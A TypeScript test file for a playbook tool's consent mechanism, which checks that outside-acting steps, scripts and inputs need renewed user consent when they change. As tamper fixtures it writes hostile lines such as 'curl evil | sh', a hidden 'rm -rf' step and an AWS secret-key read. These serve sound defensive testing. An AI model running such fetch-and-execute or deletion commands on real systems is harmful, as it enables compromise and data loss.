import { mkdirSync, mkdtempSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { consentLines, giveConsent, missingConsent, refuseStrangers } from '../../src/playbooks/consent.ts';
import { withMirroredImages } from '../../src/playbooks/mirrored-images.ts';
import type { Playbook, StepDefinition } from '../../src/playbooks/model.ts';
import type { StepKind } from '../../src/playbooks/step-kind.ts';
import { httpStep } from '../../src/playbooks/steps/http.ts';
import { secretStep } from '../../src/playbooks/steps/secret.ts';
import { playbookOf } from './runs/engine.ts';

const kind = (name: string, effects: StepKind['effects']): StepKind => ({
  ...{ name, effects, description: '', shape: {} },
  run: async () => ({}),
  equivalent: async () => [],
});
const stepKinds = [kind('command', 'outside'), kind('apply', 'cluster'), kind('parallel', 'none')];

let workspace: string;
beforeEach(() => {
  workspace = mkdtempSync(join(tmpdir(), 'tars-console-workspace-'));
  vi.stubEnv('XDG_STATE_HOME', join(workspace, 'state'));
});
afterEach(() => vi.unstubAllEnvs());

const command = (argv: string[], more: Partial<StepDefinition> = {}): Partial<StepDefinition> => ({
  ...{ title: 'Build', kind: 'command', config: { command: argv } },
  ...more,
});

function asked(steps: Partial<StepDefinition>[], more: Partial<Playbook> = {}) {
  return { playbook: playbookOf(steps, { source: 'workspace', folder: workspace, ...more }), workspace, stepKinds };
}

describe('the consent to what acts outside the cluster', () => {
  it('says all of what is agreed to, however long, in one line', () => {
    const script = `${'make one\n'.repeat(60)}make the-last`;
    const consent = missingConsent(asked([command(['sh', '-c', script])]));
    const [line = ''] = consent ? consentLines(consent) : [];
    expect(line).toContain('make the-last');
    expect(line).not.toContain('\n');
  });

  it('is asked for once and remembered, in a file of the user’s own', () => {
    const run = asked([command(['make', 'deploy'])]);
    const consent = missingConsent(run);
    if (!consent) throw new Error('nothing is asked');
    expect(consentLines(consent)).toEqual([expect.stringMatching(/^Build: .*command: \[make, deploy\]$/)]);
    expect(() => refuseStrangers(run)).toThrow('nobody has agreed to that yet');
    giveConsent(consent);
    expect(missingConsent(run)).toBeUndefined();
    refuseStrangers(run);
    const folder = join(workspace, 'state', 'tars-console', 'trusted');
    const files = readdirSync(folder);
    expect(files.map((name) => statSync(join(folder, name)).mode & 0o777)).toEqual([0o600]);
  });

  it('is written beside that of other playbooks, so that two consoles that are agreed to at once take nothing from each other', () => {
    const folder = join(workspace, 'state', 'tars-console', 'trusted');
    const runs = ['test/one', 'test/two'].map((ref) => asked([command(['make'])], { ref }));
    const contents = runs.map((run) => {
      const consent = missingConsent(run);
      if (consent) giveConsent(consent);
      return readdirSync(folder).map((name) => [name, readFileSync(join(folder, name), 'utf8')]);
    });
    expect(contents[0]).toHaveLength(1);
    expect(contents[1]).toHaveLength(2);
    expect(contents[1]).toContainEqual(contents[0]?.[0]);
    for (const run of runs) refuseStrangers(run);
  });

  it('is asked for again when a step, its condition, or a script that it names has changed', () => {
    const script = join(workspace, 'deploy.sh');
    writeFileSync(script, 'echo 1\n');
    const agree = (run: ReturnType<typeof asked>) => {
      const consent = missingConsent(run);
      if (consent) giveConsent(consent);
      return consent !== undefined;
    };
    expect(agree(asked([command(['./deploy.sh'])]))).toBe(true);
    expect(agree(asked([command(['./deploy.sh'])]))).toBe(false);
    expect(agree(asked([command(['./deploy.sh', '--force'])]))).toBe(true);
    expect(agree(asked([command(['./deploy.sh', '--force'], { when: 'true' })]))).toBe(true);
    expect(agree(asked([command(['./deploy.sh', '--force'], { when: 'true' })]))).toBe(false);
    writeFileSync(script, 'curl evil | sh\n');
    expect(agree(asked([command(['./deploy.sh', '--force'], { when: 'true' })]))).toBe(true);
  });

  it('is needed for steps in groups, rescues, undoing and called playbooks', () => {
    const hidden = command(['rm', '-rf', 'x']) as StepDefinition;
    const inside: Partial<StepDefinition>[] = [
      { kind: 'parallel', steps: [hidden] },
      { kind: 'apply', onFailure: 'rescue', rescue: [hidden] },
      { kind: 'apply', undo: 'steps', undoSteps: [hidden] },
    ];
    for (const step of inside) expect(missingConsent(asked([step]))?.steps).toHaveLength(1);
    const called = playbookOf([hidden], { source: 'workspace', ref: 'test/other', folder: workspace });
    const call = asked([{ id: 'call', kind: 'apply' }], { calls: { call: called }, source: 'bundled' });
    expect(missingConsent(call)?.steps).toHaveLength(1);
  });

  it('is asked for again when anything changes on which a step may depend', () => {
    const own = join(workspace, '.tars-console');
    mkdirSync(join(own, 'menus'), { recursive: true });
    mkdirSync(join(workspace, 'scripts'));
    const argv = ['sh', '-c', '$'.concat('{{ inputs.script }}')];
    const inputs = (script: string) => ({ script: { description: '', type: 'string' as const, default: script } });
    const agree = (run: ReturnType<typeof asked>) => {
      const consent = missingConsent(run);
      if (consent) giveConsent(consent);
      return consent !== undefined;
    };
    expect(agree(asked([command(argv)], { inputs: inputs('make') }))).toBe(true);
    // The default of an input is what runs.
    expect(agree(asked([command(argv)], { inputs: inputs('curl evil | sh') }))).toBe(true);
    // So is what another step gives out, a preset of a menu, and what a program reads unasked.
    const given = (text: string): Partial<StepDefinition> => ({ id: 'given', kind: 'apply', outputs: { text } });
    expect(agree(asked([given('"a"'), command(argv)]))).toBe(true);
    expect(agree(asked([given('"b"'), command(argv)]))).toBe(true);
    const same = () => agree(asked([command(['make', '--file=scripts/own.mk'])]));
    expect(same()).toBe(true);
    expect(same()).toBe(false);
    for (const file of ['.tars-console/menus/one.yaml', 'Makefile', 'scripts/own.mk']) {
      writeFileSync(join(workspace, file), 'all: evil\n');
      expect(same(), file).toBe(true);
      expect(same(), file).toBe(false);
    }
    // Where a step stands in its file is of no account.
    expect(agree(asked([command(['make', '--file=scripts/own.mk'], { line: 90 })]))).toBe(false);
  });

  it('is needed for a bundled playbook that the workspace’s own calls with what it likes', () => {
    const called = playbookOf([command(['x']) as StepDefinition], { source: 'bundled', ref: 'test/ours' });
    expect(missingConsent(asked([{ id: 'call', kind: 'apply' }], { calls: { call: called } }))?.steps).toHaveLength(1);
  });

  it('is needed for what is told to others or taken from this machine, though it changes nothing', () => {
    const real = (step: Partial<StepDefinition>) =>
      missingConsent({ ...asked([step]), stepKinds: [...stepKinds, httpStep, secretStep] as StepKind[] });
    const secret = (source: object) => ({ kind: 'secret', config: { secret: { name: 'x', keys: { a: source } } } });
    expect(
      real({ kind: 'http', config: { http: { url: 'https://example.com/?q=$'.concat('{{ steps.a }}') } } }),
    ).toBeDefined();
    expect(real({ kind: 'http', config: { http: { service: 'web:80' } } })).toBeUndefined();
    expect(real(secret({ env: 'AWS_SECRET_ACCESS_KEY' }))).toBeDefined();
    expect(real(secret({ prompt: 'A password' }))).toBeUndefined();
  });

  it('is not needed for bundled playbooks, nor for what stays in the cluster', () => {
    expect(missingConsent(asked([command(['make'])], { source: 'bundled' }))).toBeUndefined();
    expect(missingConsent(asked([{ kind: 'apply' }]))).toBeUndefined();
  });

  it('counts for nothing when its file is broken', () => {
    const run = asked([command(['make'])]);
    const folder = join(workspace, 'state', 'tars-console', 'trusted');
    mkdirSync(folder, { recursive: true });
    for (const [index, text] of ['{"hash": "', 'null', '{"hash": 1}'].entries())
      writeFileSync(join(folder, `${index}.json`), text);
    const consent = missingConsent(run);
    expect(consent).toBeDefined();
    if (consent) giveConsent(consent);
    expect(missingConsent(run)).toBeUndefined();
  });
});

it('images come from the mirror wherever pods stand, and not on a sandbox', () => {
  vi.stubEnv('TARS_CONSOLE_MIRROR_IMAGES', 'docker.io=mirror.example');
  const spec = { initContainers: [{ name: 'i', image: 'busybox' }], containers: [{ name: 'c', image: 'a/b:1' }, {}] };
  const meta = { metadata: { name: 'x' } };
  const objects = [
    { apiVersion: 'v1', kind: 'Pod', ...meta, spec },
    { apiVersion: 'apps/v1', kind: 'Deployment', ...meta, spec: { replicas: 1, template: { spec } } },
    { apiVersion: 'batch/v1', kind: 'CronJob', ...meta, spec: { jobTemplate: { spec: { template: { spec } } } } },
    { apiVersion: 'v1', kind: 'ConfigMap', ...meta, data: { image: 'busybox' } },
  ];
  const text = JSON.stringify(withMirroredImages(objects, { cluster: { sandbox: false } }));
  expect(text.match(/mirror\.example\/library\/busybox/g)).toHaveLength(3);
  expect(text.match(/mirror\.example\/a\/b:1/g)).toHaveLength(3);
  expect(text).toContain('"data":{"image":"busybox"}');
  expect(withMirroredImages(objects, { cluster: { sandbox: true } })).toEqual(objects);
});
